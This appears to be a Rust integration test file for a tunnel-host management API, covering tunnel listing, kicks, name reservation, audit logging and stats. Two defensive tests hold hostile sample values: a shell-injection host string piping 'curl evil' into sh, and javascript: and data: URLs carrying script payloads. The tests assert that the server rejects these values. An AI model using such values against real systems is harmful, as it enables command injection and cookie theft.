//! Tunnels across hosts: the live list from each host's link, kicks sent
//! down the host's socket (and refused for viewers or offline hosts), names
//! reserved for members and checked by hosts, and the link route itself.

use crate::common;

use std::sync::Arc;

use axum::http::StatusCode;
use common::{START_MS, add_member, add_user, api, send, setup_owner, sign_in_as};
use durable_state::link::{EdgeMessage, HostAddress, HostMessage, LinkTunnel};
use edge_api::{
    Platform,
    platform::native::{self, HostFrame, LocalObjects, ManualClock},
    tunnels::tunnel_host::HOST_HEADER,
};
use serde_json::{Value, json};

struct Fixture {
    platform: Platform,
    objects: Arc<LocalObjects>,
    owner: String,
    owner_id: String,
    org_id: String,
    host_id: String,
    credential: String,
}

async fn fixture() -> Fixture {
    let clock = Arc::new(ManualClock::new(START_MS));
    let (platform, objects) = native::platform_with_objects(clock).expect("platform");
    let (owner, me) = setup_owner(&platform).await;
    let created = send(
        &platform,
        api(
            "POST",
            "/api/orgs/ada-lab/tunnel-hosts",
            Some(&owner),
            Some(json!({ "name": "edge-1" })),
        ),
    )
    .await;
    let token = created.json["enrollment_token"].as_str().expect("token");
    let enrolled = send(
        &platform,
        api(
            "POST",
            "/api/tunnel-hosts/enroll",
            None,
            Some(json!({ "enrollment_token": token })),
        ),
    )
    .await;
    assert_eq!(enrolled.status, StatusCode::CREATED, "{}", enrolled.json);
    Fixture {
        platform,
        objects,
        owner,
        owner_id: me["user"]["id"].as_str().expect("user id").to_owned(),
        org_id: enrolled.json["org_id"].as_str().expect("org").to_owned(),
        host_id: enrolled.json["host_id"].as_str().expect("host").to_owned(),
        credential: enrolled.json["credential"]
            .as_str()
            .expect("credential")
            .to_owned(),
    }
}

fn tunnel(id: &str, name: &str, user: &str) -> LinkTunnel {
    LinkTunnel {
        id: id.into(),
        name: name.into(),
        kind: "http".into(),
        user: user.into(),
        client_addr: "127.0.0.1:50000".into(),
        public_url: format!("http://{name}.localhost:8080"),
        opened_at: "2026-11-22T10:00:01Z".into(),
        bytes_in: 10,
        bytes_out: 20,
        requests: 1,
    }
}

impl Fixture {
    async fn host(&self, frame: HostFrame) {
        self.objects
            .host(&self.platform, &self.host_id, &self.org_id, frame)
            .await
            .expect("host frame");
    }

    async fn get(&self, path: &str, cookie: &str) -> common::Reply {
        send(&self.platform, api("GET", path, Some(cookie), None)).await
    }

    async fn member(&self, role: &str, email: &str) -> String {
        let id = add_user(&self.platform, role, email).await;
        add_member(&self.platform, &self.org_id, &id, role).await;
        sign_in_as(&self.platform, &id).await
    }

    async fn as_host(&self, uri: &str, credential: Option<&str>, body: Value) -> common::Reply {
        let mut request = api("POST", uri, None, Some(body));
        if let Some(credential) = credential {
            request
                .headers_mut()
                .insert(HOST_HEADER, credential.parse().expect("header"));
        }
        send(&self.platform, request).await
    }
}

#[tokio::test]
async fn tunnels_are_listed_from_each_hosts_link() {
    let f = fixture().await;
    let list = f.get("/api/orgs/ada-lab/tunnels", &f.owner).await;
    assert_eq!(list.status, StatusCode::OK);
    assert_eq!(list.json, json!([]));

    f.host(HostFrame::Connect).await;
    f.host(HostFrame::Message(Box::new(HostMessage::Hello {
        version: "0.1.0".into(),
        hostname: Some("vps-1".into()),
        tunnels: vec![
            tunnel("t2", "beta", "alice-from-authorized-keys"),
            tunnel("t1", "alpha", &f.owner_id),
        ],
        address: None,
    })))
    .await;
    let list = f.get("/api/orgs/ada-lab/tunnels", &f.owner).await;
    let tunnels = list.json.as_array().expect("list");
    assert_eq!(tunnels.len(), 2);
    let alpha = tunnels
        .iter()
        .find(|t| t["name"] == "alpha")
        .expect("alpha");
    assert_eq!(alpha["user"]["name"], "Ada Owner");
    assert_eq!(alpha["user"]["email"], "ada@example.com");
    assert_eq!(
        alpha["host"],
        json!({ "id": f.host_id, "name": "edge-1", "online": true })
    );
    assert_eq!(alpha["public_url"], "http://alpha.localhost:8080");
    assert_eq!(alpha["requests"], 1);
    let beta = tunnels.iter().find(|t| t["name"] == "beta").expect("beta");
    assert_eq!(beta["user"]["id"], "alice-from-authorized-keys");
    assert!(beta["user"]["name"].is_null());

    let hosts = f.get("/api/orgs/ada-lab/tunnel-hosts", &f.owner).await;
    assert_eq!(hosts.json[0]["status"], "online");
    assert!(
        hosts.json[0]["ssh_port"].is_null(),
        "a host that does not say has no address"
    );

    // Closed tunnels leave the list; a disconnected host's stay, marked.
    f.host(HostFrame::Message(Box::new(HostMessage::Closed {
        tunnel: tunnel("t2", "beta", "alice-from-authorized-keys"),
        reason: "session_ended".into(),
    })))
    .await;
    f.host(HostFrame::Disconnect).await;
    let list = f.get("/api/orgs/ada-lab/tunnels", &f.owner).await;
    assert_eq!(list.json.as_array().expect("list").len(), 1);
    assert_eq!(list.json[0]["host"]["online"], false);
    // The link decides, even while the host's last HTTP call is recent.
    let hosts = f.get("/api/orgs/ada-lab/tunnel-hosts", &f.owner).await;
    assert_eq!(hosts.json[0]["status"], "offline");
}

#[tokio::test]
async fn hosts_list_the_ssh_address_their_hello_reported() {
    let f = fixture().await;
    let hosts = f.get("/api/orgs/ada-lab/tunnel-hosts", &f.owner).await;
    assert_eq!(hosts.status, StatusCode::OK);
    assert!(hosts.json[0]["ssh_host"].is_null() && hosts.json[0]["ssh_port"].is_null());
    f.host(HostFrame::Connect).await;
    f.host(HostFrame::Message(Box::new(HostMessage::Hello {
        version: "0.2.0".into(),
        hostname: None,
        tunnels: vec![],
        address: Some(HostAddress {
            ssh_host: "ssh.example.com".into(),
            ssh_port: 40022,
            tunnel_domain: "t.example.com".into(),
        }),
    })))
    .await;
    let hosts = f.get("/api/orgs/ada-lab/tunnel-hosts", &f.owner).await;
    assert_eq!(hosts.json[0]["ssh_host"], "ssh.example.com");
    assert_eq!(hosts.json[0]["ssh_port"], 40022);
    assert_eq!(hosts.json[0]["tunnel_domain"], "t.example.com");
    // Kept while the host is away: the command stays right for its return.
    f.host(HostFrame::Disconnect).await;
    let hosts = f.get("/api/orgs/ada-lab/tunnel-hosts", &f.owner).await;
    assert_eq!(hosts.json[0]["status"], "offline");
    assert_eq!(hosts.json[0]["ssh_port"], 40022);
    // Anything a shell would split is not passed on.
    f.host(HostFrame::Connect).await;
    f.host(HostFrame::Message(Box::new(HostMessage::Hello {
        version: "0.2.0".into(),
        hostname: None,
        tunnels: vec![],
        address: Some(HostAddress {
            ssh_host: "ssh.example.com; curl evil | sh".into(),
            ssh_port: 22,
            tunnel_domain: "t.example.com".into(),
        }),
    })))
    .await;
    let hosts = f.get("/api/orgs/ada-lab/tunnel-hosts", &f.owner).await;
    assert!(hosts.json[0]["ssh_host"].is_null(), "{}", hosts.json);
}

#[tokio::test]
async fn kicks_go_down_the_hosts_socket_and_are_audited() {
    let f = fixture().await;
    f.host(HostFrame::Connect).await;
    f.host(HostFrame::Message(Box::new(HostMessage::Opened {
        tunnel: tunnel("t1", "alpha", &f.owner_id),
    })))
    .await;
    let viewer = f.member("viewer", "vic@example.com").await;
    let operator = f.member("operator", "olga@example.com").await;

    let denied = send(
        &f.platform,
        api(
            "DELETE",
            "/api/orgs/ada-lab/tunnels/t1",
            Some(&viewer),
            None,
        ),
    )
    .await;
    assert_eq!(denied.status, StatusCode::FORBIDDEN);
    assert!(f.objects.sent_to(&f.host_id).expect("sent").is_empty());

    let missing = send(
        &f.platform,
        api(
            "DELETE",
            "/api/orgs/ada-lab/tunnels/nope",
            Some(&operator),
            None,
        ),
    )
    .await;
    assert_eq!(missing.status, StatusCode::NOT_FOUND);

    let kicked = send(
        &f.platform,
        api(
            "DELETE",
            "/api/orgs/ada-lab/tunnels/t1",
            Some(&operator),
            None,
        ),
    )
    .await;
    assert_eq!(kicked.status, StatusCode::NO_CONTENT, "{}", kicked.json);
    let sent = f.objects.sent_to(&f.host_id).expect("sent");
    assert_eq!(
        sent,
        vec![EdgeMessage::Kick {
            tunnel: "t1".into(),
            message: "closed by operator from the Flamingo panel".into()
        }]
    );
    let audit = f.get("/api/orgs/ada-lab/audit", &f.owner).await;
    let entry = audit.json["items"]
        .as_array()
        .expect("items")
        .iter()
        .find(|e| e["action"] == "tunnel.kick")
        .expect("a tunnel.kick entry");
    assert_eq!(entry["metadata"]["name"], "alpha");
    assert_eq!(entry["metadata"]["host"], "edge-1");

    f.host(HostFrame::Disconnect).await;
    let offline = send(
        &f.platform,
        api(
            "DELETE",
            "/api/orgs/ada-lab/tunnels/t1",
            Some(&operator),
            None,
        ),
    )
    .await;
    assert_eq!(offline.status, StatusCode::CONFLICT);
    assert_eq!(offline.json["error"]["code"], "host_offline");
}

#[tokio::test]
async fn names_are_reserved_for_members_and_checked_by_hosts() {
    let f = fixture().await;
    let viewer = f.member("viewer", "vic@example.com").await;
    let reserve = |cookie: String, body: Value| {
        let platform = f.platform.clone();
        async move {
            send(
                &platform,
                api(
                    "POST",
                    "/api/orgs/ada-lab/tunnel-names",
                    Some(&cookie),
                    Some(body),
                ),
            )
            .await
        }
    };

    let made = reserve(f.owner.clone(), json!({ "name": " MyApp " })).await;
    assert_eq!(made.status, StatusCode::CREATED, "{}", made.json);
    assert_eq!(made.json["name"], "myapp");
    assert_eq!(made.json["user"]["name"], "Ada Owner");
    let again = reserve(f.owner.clone(), json!({ "name": "myapp" })).await;
    assert_eq!(again.status, StatusCode::CONFLICT);
    assert_eq!(again.json["error"]["code"], "name_taken");
    for bad in ["www", "tcp-20000", "-x", "my_app"] {
        let refused = reserve(f.owner.clone(), json!({ "name": bad })).await;
        assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY, "{bad}");
        assert!(refused.json["error"]["fields"]["name"].is_string(), "{bad}");
    }
    let stranger = add_user(&f.platform, "Stranger", "s@example.com").await;
    let not_member = reserve(
        f.owner.clone(),
        json!({ "name": "other", "user_id": stranger }),
    )
    .await;
    assert_eq!(not_member.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(not_member.json["error"]["fields"]["user_id"].is_string());
    let viewer_try = reserve(viewer.clone(), json!({ "name": "mine" })).await;
    assert_eq!(viewer_try.status, StatusCode::FORBIDDEN);

    let listed = f.get("/api/orgs/ada-lab/tunnel-names", &viewer).await;
    assert_eq!(listed.json.as_array().expect("list").len(), 1);

    let check = |user: &str| {
        f.as_host(
            "/api/tunnel-hosts/names/check",
            Some(&f.credential),
            json!({ "name": "myapp", "user_id": user }),
        )
    };
    assert_eq!(
        check(&f.owner_id).await.json,
        json!({ "allowed": true, "reserved_by": null })
    );
    assert_eq!(
        check("someone-else").await.json,
        json!({ "allowed": false, "reserved_by": "Ada Owner" })
    );
    let unauthenticated = f
        .as_host(
            "/api/tunnel-hosts/names/check",
            None,
            json!({ "name": "myapp", "user_id": "x" }),
        )
        .await;
    assert_eq!(unauthenticated.status, StatusCode::UNAUTHORIZED);

    let released = send(
        &f.platform,
        api(
            "DELETE",
            "/api/orgs/ada-lab/tunnel-names/myapp",
            Some(&f.owner),
            None,
        ),
    )
    .await;
    assert_eq!(released.status, StatusCode::NO_CONTENT);
    assert_eq!(check("someone-else").await.json["allowed"], true);
    let audit = f.get("/api/orgs/ada-lab/audit", &f.owner).await;
    let actions: Vec<&str> = audit.json["items"]
        .as_array()
        .expect("items")
        .iter()
        .filter_map(|e| e["action"].as_str())
        .collect();
    assert!(actions.contains(&"tunnel_name.reserve"), "{actions:?}");
    assert!(actions.contains(&"tunnel_name.release"), "{actions:?}");
}

#[tokio::test]
async fn the_link_route_needs_a_host_and_an_upgrade_and_deleting_forgets() {
    let f = fixture().await;
    let mut plain = api("GET", "/api/tunnel-hosts/link", None, None);
    let refused = send(&f.platform, plain).await;
    assert_eq!(refused.status, StatusCode::UNAUTHORIZED);
    plain = api("GET", "/api/tunnel-hosts/link", None, None);
    plain
        .headers_mut()
        .insert(HOST_HEADER, f.credential.parse().expect("header"));
    let not_upgraded = send(&f.platform, plain).await;
    assert_eq!(not_upgraded.status, StatusCode::BAD_REQUEST);
    assert_eq!(not_upgraded.json["error"]["code"], "upgrade_required");

    f.host(HostFrame::Connect).await;
    f.host(HostFrame::Message(Box::new(HostMessage::Opened {
        tunnel: tunnel("t1", "alpha", &f.owner_id),
    })))
    .await;
    let deleted = send(
        &f.platform,
        api(
            "DELETE",
            &format!("/api/orgs/ada-lab/tunnel-hosts/{}", f.host_id),
            Some(&f.owner),
            None,
        ),
    )
    .await;
    assert_eq!(deleted.status, StatusCode::NO_CONTENT);
    let list = f.get("/api/orgs/ada-lab/tunnels", &f.owner).await;
    assert_eq!(list.json, json!([]));
}

#[tokio::test]
async fn a_host_learns_no_names_or_emails_outside_its_organization() {
    let f = fixture().await;
    // Bob runs another organization; this host's link names him anyway.
    let bob = add_user(&f.platform, "Bob Other", "bob@other.example").await;
    let bob_cookie = sign_in_as(&f.platform, &bob).await;
    let bobs = send(
        &f.platform,
        api(
            "POST",
            "/api/orgs",
            Some(&bob_cookie),
            Some(json!({ "name": "Bob Co" })),
        ),
    )
    .await;
    assert_eq!(bobs.status, StatusCode::CREATED, "{}", bobs.json);
    let member = f.member("viewer", "vic@example.com").await;

    f.host(HostFrame::Connect).await;
    f.host(HostFrame::Message(Box::new(HostMessage::Hello {
        version: "0.1.0".into(),
        hostname: None,
        tunnels: vec![
            tunnel("t1", "alpha", &bob),
            tunnel("t2", "beta", &f.owner_id),
        ],
        address: None,
    })))
    .await;
    let list = f.get("/api/orgs/ada-lab/tunnels", &member).await;
    assert_eq!(list.status, StatusCode::OK);
    let alpha = list.json.as_array().expect("list")[0].clone();
    assert_eq!(alpha["name"], "alpha");
    assert_eq!(
        alpha["user"],
        json!({ "id": bob, "name": null, "email": null }),
        "a non-member's id stays a bare id"
    );
    assert!(!list.json.to_string().contains("bob@other.example"));
    assert_eq!(list.json[1]["user"]["email"], "ada@example.com");
}

#[tokio::test]
async fn a_host_may_report_only_http_https_and_tcp_public_urls() {
    let f = fixture().await;
    let mut evil = tunnel("t1", "evil", &f.owner_id);
    evil.public_url = "javascript:alert(document.cookie)".into();
    let mut tcp = tunnel("t2", "tcp-20001", &f.owner_id);
    tcp.kind = "tcp".into();
    tcp.public_url = "tcp://localhost:20001".into();
    let mut secure = tunnel("t3", "secure", &f.owner_id);
    secure.public_url = "https://secure.tunnel.example.com".into();
    f.host(HostFrame::Connect).await;
    f.host(HostFrame::Message(Box::new(HostMessage::Hello {
        version: "0.1.0".into(),
        hostname: None,
        tunnels: vec![evil.clone(), tcp, secure],
        address: None,
    })))
    .await;
    f.host(HostFrame::Message(Box::new(HostMessage::Opened {
        tunnel: LinkTunnel {
            id: "t4".into(),
            public_url: "data:text/html,<script>alert(1)</script>".into(),
            ..evil
        },
    })))
    .await;
    let list = f.get("/api/orgs/ada-lab/tunnels", &f.owner).await;
    let urls: Vec<&str> = list
        .json
        .as_array()
        .expect("list")
        .iter()
        .filter_map(|t| t["public_url"].as_str())
        .collect();
    assert_eq!(
        urls,
        ["https://secure.tunnel.example.com", "tcp://localhost:20001"]
    );
}

#[tokio::test]
async fn listing_tells_the_host_to_watch_and_stats_move_the_counters() {
    let f = fixture().await;
    // Offline: nobody to tell.
    f.get("/api/orgs/ada-lab/tunnels", &f.owner).await;
    assert_eq!(f.objects.sent_to(&f.host_id).expect("sent"), vec![]);

    f.host(HostFrame::Connect).await;
    f.host(HostFrame::Message(Box::new(HostMessage::Hello {
        version: "0.1.0".into(),
        hostname: None,
        address: None,
        tunnels: vec![tunnel("t1", "alpha", &f.owner_id)],
    })))
    .await;
    // Hosts and kicks ask for the status alone.
    f.get("/api/orgs/ada-lab/tunnel-hosts", &f.owner).await;
    assert_eq!(f.objects.sent_to(&f.host_id).expect("sent"), vec![]);
    // Listing the tunnels is someone watching: one watch, not one per fetch.
    for _ in 0..3 {
        let list = f.get("/api/orgs/ada-lab/tunnels", &f.owner).await;
        assert_eq!(list.status, StatusCode::OK);
    }
    assert_eq!(
        f.objects.sent_to(&f.host_id).expect("sent"),
        vec![EdgeMessage::Watch {
            for_secs: durable_state::link::WATCH_SECS
        }]
    );

    f.host(HostFrame::Message(Box::new(HostMessage::Stats {
        tunnels: vec![durable_state::link::LinkStats {
            id: "t1".into(),
            bytes_in: 1_000,
            bytes_out: 2_000,
            requests: 7,
        }],
    })))
    .await;
    let list = f.get("/api/orgs/ada-lab/tunnels", &f.owner).await;
    let t = &list.json[0];
    assert_eq!(
        (&t["bytes_in"], &t["bytes_out"], &t["requests"]),
        (&json!(1_000), &json!(2_000), &json!(7))
    );
}
